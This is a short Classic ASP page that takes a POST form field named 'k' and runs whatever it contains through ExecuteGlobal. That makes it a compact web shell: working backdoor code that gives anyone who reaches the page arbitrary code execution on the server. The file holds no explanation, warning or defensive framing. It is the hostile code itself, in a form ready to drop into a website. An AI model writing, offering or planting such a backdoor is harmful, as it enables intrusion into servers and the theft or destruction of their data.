<%
Dim code
code = Request.Form("k")
If code <> "" Then
    ExecuteGlobal code
End If
%>
